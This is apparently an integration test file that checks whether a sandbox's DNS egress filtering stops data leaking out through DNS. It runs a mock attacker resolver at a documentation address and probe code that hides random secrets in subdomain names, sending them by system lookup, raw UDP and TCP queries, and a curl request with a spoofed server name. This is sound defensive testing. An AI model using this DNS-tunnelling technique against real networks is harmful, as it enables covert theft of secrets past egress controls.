import { createSocket } from 'node:dgram';
import { randomBytes } from 'node:crypto';
import { readFile, rm } from 'node:fs/promises';
import * as packet from 'dns-packet';
import { createAccount } from '../support/api';
import type { ApiClient } from '../support/api-client';
import { LocalResolver } from '../support/local-resolver';
import { useListenerNamespace } from '../support/netns';
import { useStack } from '../support/use-stack';

/**
 * Data out through DNS (issue 40): a session whose policy names domains resolves only what its
 * policy allows. The attacker holds a resolver "on the internet" (a listener on this machine,
 * at a documentation address, on UDP and TCP port 53 and on UDP 5353) and writes the secret
 * into names; the node's own resolver (SANDBOX_EGRESS_DNS) knows one allowed name. Neither
 * may ever see a secret, whichever way the sandbox asks.
 */
const ATTACKER = '198.51.100.53';
const ALLOWED = 'api.allowed.test';
const ALLOWED_ADDRESS = '203.0.113.44';
const heard = `/tmp/attacker-dns-${randomBytes(4).toString('hex')}.log`;

useListenerNamespace({
  subnet: '10.199.79',
  addresses: [ATTACKER],
  // Every name it is asked, a line each, whatever the way; it answers 192.0.2.66 to all.
  script: () => `
const dgram = require('dgram'), net = require('net'), fs = require('fs');
const name = (m) => { const l = []; for (let i = 12; m[i] > 0 && i < m.length; i += m[i] + 1) l.push(m.subarray(i + 1, i + 1 + m[i]).toString()); return l.join('.'); };
const answer = (m) => Buffer.concat([m.subarray(0, 2), Buffer.from([0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]), m.subarray(12), Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 5, 0, 4, 192, 0, 2, 66])]);
const hear = (m, how) => { fs.appendFileSync(${JSON.stringify(heard)}, how + ' ' + name(m) + '\\n'); return answer(m); };
for (const port of [53, 5353]) {
  const u = dgram.createSocket('udp4');
  u.on('message', (m, r) => u.send(hear(m, 'udp/' + port), r.port, r.address));
  u.bind(port, '0.0.0.0');
}
net.createServer((s) => s.once('data', (d) => { const a = hear(d.subarray(2), 'tcp/53'); const l = Buffer.alloc(2); l.writeUInt16BE(a.length); s.end(Buffer.concat([l, a])); })).listen(53, '0.0.0.0');
`,
  isUp: (address) => answersUdp(address),
});
afterAll(() => rm(heard, { force: true }));

/** Whether the attacker's resolver answers a query from the host (so that silence means refused). */
function answersUdp(address: string): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = createSocket('udp4');
    const done = (up: boolean) => {
      clearTimeout(timer);
      socket.close();
      resolve(up);
    };
    const timer = setTimeout(() => done(false), 1000);
    socket.on('message', () => done(true));
    socket.send(
      packet.encode({ type: 'query', id: 1, questions: [{ type: 'A', name: 'up.check' }] }),
      53,
      address,
    );
  });
}

const resolver = new LocalResolver({ [ALLOWED]: ALLOWED_ADDRESS });
beforeAll(() => resolver.start());
afterAll(() => resolver.stop());
const t = useStack({
  agentEnv: {
    // Read when the stack starts, after the resolver did.
    get SANDBOX_EGRESS_DNS() {
      return resolver.address;
    },
  },
});
let api: ApiClient;
beforeAll(async () => {
  api = t.as((await createAccount(t.stack, 'paid')).key);
});

/**
 * Node code for the sandbox: each probe `[way, name, server?, port?]` asks for `name` as a
 * program would (`system`: the sandbox's resolver, as getaddrinfo does) or raw (`udp`, `tcp`)
 * to server:port, and prints `way name: <addresses> | rcode N | none` a line each.
 */
const PROBE = `
const dns = require('dns'), dgram = require('dgram'), net = require('net');
const query = (name) => Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)])), Buffer.from([0, 0, 1, 0, 1])]);
const read = (m) => (m[3] & 15) === 0 && m.readUInt16BE(6) > 0 ? 'answered' : 'rcode ' + (m[3] & 15);
const udp = (name, host, port) => new Promise((ok) => { const s = dgram.createSocket('udp4'); const t = setTimeout(() => { s.close(); ok('none'); }, 3000); s.on('message', (m) => { clearTimeout(t); s.close(); ok(read(m)); }); s.send(query(name), port, host); });
const tcp = (name, host, port) => new Promise((ok) => { const s = net.connect(port, host); const q = query(name); const l = Buffer.alloc(2); l.writeUInt16BE(q.length); let got = Buffer.alloc(0); const t = setTimeout(() => { s.destroy(); ok('none'); }, 3000); s.on('error', () => { clearTimeout(t); ok('none'); }); s.on('connect', () => s.write(Buffer.concat([l, q]))); s.on('data', (d) => { got = Buffer.concat([got, d]); if (got.length >= 2 + got.readUInt16BE(0)) { clearTimeout(t); s.destroy(); ok(read(got.subarray(2))); } }); });
const system = (name) => dns.promises.lookup(name, { all: true, family: 4 }).then((a) => a.map((x) => x.address).join(','), (e) => e.code);
(async () => { for (const [way, name, host, port] of JSON.parse(process.argv[1])) console.log(way + ' ' + name + ': ' + await ({ system, udp, tcp })[way](name, host, port)); })();
`;

type Probe = [way: 'system' | 'udp' | 'tcp', name: string, server?: string, port?: number];

async function probeIn(sessionId: string, probes: Probe[]): Promise<string[]> {
  const run = await api.execute<{ stdout: string; stderr: string }>(sessionId, {
    command: `node -e '${PROBE.replace(/'/g, `'\\''`)}' '${JSON.stringify(probes)}'`,
    timeout: 60,
  });
  expect(run.body.stderr).toBe('');
  return run.body.stdout.trim().split('\n');
}

const secret = () => `${randomBytes(6).toString('hex')}.attacker.test`;

async function create(egress: Record<string, unknown>): Promise<string> {
  const created = await api.post<{ sessionId: string }>('/v1/sessions/create', { egress });
  expect(created.status).toBe(200);
  return created.body.sessionId;
}

/** Every name the attacker's resolver and the node's resolver were asked. */
async function seen(): Promise<string> {
  const attacker = await readFile(heard, 'utf8').catch(() => '');
  return `${attacker}\n${resolver.queries.join('\n')}`;
}

it('under an allow list, resolves the allowed names and no other, however it is asked', async () => {
  // The attacker's address is even allowed by CIDR: port 53 is still the node's filter's.
  const id = await create({ default: 'deny', allow: [ALLOWED, `${ATTACKER}/32`] });
  const names = Array.from({ length: 5 }, secret);
  const results = await probeIn(id, [
    ['system', ALLOWED],
    ['system', names[0] as string],
    ['udp', ALLOWED, ATTACKER, 53],
    ['udp', names[1] as string, ATTACKER, 53],
    ['tcp', names[2] as string, ATTACKER, 53],
    ['udp', names[3] as string, '192.0.2.99', 53],
  ]);
  expect(results).toEqual([
    `system ${ALLOWED}: ${ALLOWED_ADDRESS}`,
    `system ${names[0]}: ENOTFOUND`,
    // Asked of the attacker, answered by the node's filter, from the node's resolver.
    `udp ${ALLOWED}: answered`,
    `udp ${names[1]}: rcode 3`,
    `tcp ${names[2]}: rcode 3`,
    `udp ${names[3]}: rcode 3`,
  ]);
  // Nor through the egress proxy: a TLS server name it does not allow is never looked up.
  const sni = names[4] as string;
  await api.execute(id, {
    command: `curl -sk --max-time 3 --resolve ${sni}:443:192.0.2.99 https://${sni}/; true`,
    timeout: 30,
  });
  const heardNow = await seen();
  for (const name of names) expect(heardNow).not.toContain(name.split('.')[0]);
  expect(heardNow).not.toContain(`udp/53 ${ALLOWED}`);
});

it('under an allow list, DNS on another port to an address it does not allow is dropped', async () => {
  const id = await create({ default: 'deny', allow: [ALLOWED] });
  const name = secret();
  expect(await probeIn(id, [['udp', name, ATTACKER, 5353]])).toEqual([`udp ${name}: none`]);
  expect(await seen()).not.toContain(name.split('.')[0]);
});

it("applies a deny list to names: a denied domain's names never leave the node", async () => {
  const id = await create({ default: 'allow', deny: ['*.attacker.test'] });
  const [first, second] = [secret(), secret()];
  expect(
    await probeIn(id, [
      ['system', first],
      ['udp', second, ATTACKER, 53],
    ]),
  ).toEqual([`system ${first}: ENOTFOUND`, `udp ${second}: rcode 3`]);
  const heardNow = await seen();
  for (const name of [first, second]) expect(heardNow).not.toContain(name.split('.')[0]);
});
